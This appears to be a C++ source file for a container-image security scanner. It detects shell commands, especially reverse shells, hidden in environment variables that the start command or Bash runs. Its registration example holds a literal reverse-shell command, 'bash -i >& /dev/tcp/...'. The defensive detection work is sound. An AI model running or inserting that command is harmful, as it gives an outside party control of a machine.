// Commands that lie in a variable of the image's environment (B01 and whatever else the code deserves): a start
// command `eval "$X"` shows nothing of them, and a shell runs some variables by itself.
//
// What a shell joined to a network does in a variable needs no use of it to be bad. Of the rest only what the start
// command names, or what shells run unasked, is code: other values quote commands as hints for people.
#include <algorithm>
#include <array>
#include <cctype>

#include "detect/detector.hpp"
#include "detect/image_support.hpp"
#include "detect/shell/shell_facts.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::size_t k_most_variables = 1000;
constexpr std::size_t k_longest_value = 64U << 10;
constexpr std::string_view k_name = "config:Env";

constexpr std::array<RuleRow, 1> k_rows{{
    {"B01", EvidenceClass::decisive, model::Severity::critical, 95, "Shell redirected to a network connection",
     "T1059.004", "Do not run this image: it hands a command shell to a remote party."},
}};

// "$NAME" or "${NAME", and no longer name.
bool names_variable(std::string_view text, std::string_view name) {
  for (std::size_t at = text.find(name); at != std::string_view::npos; at = text.find(name, at + 1)) {
    const std::size_t end = at + name.size();
    const bool longer =
        end < text.size() && (std::isalnum(static_cast<unsigned char>(text[end])) || text[end] == '_');
    if (longer || at == 0) continue;
    if (text[at - 1] == '$' || (at >= 2 && text[at - 1] == '{' && text[at - 2] == '$')) return true;
  }
  return false;
}

bool is_used(const model::ImageConfig& config, std::string_view name) {
  if (name == "PROMPT_COMMAND" || name.starts_with("BASH_FUNC_")) return true;
  const auto names = [&](const std::string& word) { return names_variable(word, name); };
  return std::any_of(config.entrypoint.begin(), config.entrypoint.end(), names) ||
         std::any_of(config.cmd.begin(), config.cmd.end(), names) ||
         std::any_of(config.healthcheck.begin(), config.healthcheck.end(), names);
}

// The body of a function that Bash takes from the environment: "() { CODE; }".
std::string_view code_of(std::string_view name, std::string_view value) {
  if (name.starts_with("BASH_FUNC_") && value.starts_with("()")) value.remove_prefix(2);
  return value;
}

// Values without any of these are words, not commands.
bool may_be_code(std::string_view value) { return value.find_first_of("|;&<>`(") != std::string_view::npos; }

class StartVariables final : public Detector {
 public:
  void image(const ImageContext& context, ImageEvidence& out) const override {
    const model::ImageConfig& config = context.image.config();
    for (std::size_t i = 0; i < config.env.size() && i < k_most_variables; ++i) {
      const std::string_view entry = config.env[i];
      const std::size_t equals = std::min(entry.find('='), entry.size());
      const std::string_view name = entry.substr(0, equals);
      const std::string_view value = entry.substr(std::min(equals + 1, entry.size()));
      if (name.empty() || value.size() > k_longest_value || !may_be_code(value)) continue;
      ShellFacts facts = facts_of_text(code_of(name, value));
      if (!is_used(config, name)) {
        facts.commands.clear();
        std::erase_if(facts.flows, [](const ShellFlow& flow) { return flow.kind != FlowKind::reverse_shell; });
      }
      if (!facts.flows.empty()) judge(config, static_cast<std::uint32_t>(i + 1), facts, out);
    }
  }

 private:
  static void judge(const model::ImageConfig& config, std::uint32_t line, const ShellFacts& facts,
                    ImageEvidence& out) {
    const ShellUnit unit{std::string(k_name), {}, line, Reach::start, false, facts, &config};
    for (const auto& entry : DetectorRegistry::all()) {
      EvidenceSink sink;
      entry.instance->shell(unit, sink);
      for (Evidence& evidence : sink.take()) {
        PlacedEvidence placed;
        placed.path = k_name;
        placed.visibility = model::Visibility::config;
        placed.reach = Reach::start;
        placed.chain = {"Env"};
        placed.evidence = std::move(evidence);
        out.add(std::move(placed));
      }
    }
  }
};

const util::Registered<StartVariables> registered{{
    .id = "start-variables",
    .version = 1,
    .summary = "commands in variables of the environment that the start command or a shell runs",
    .example = "ENV RUN=\"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\"",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
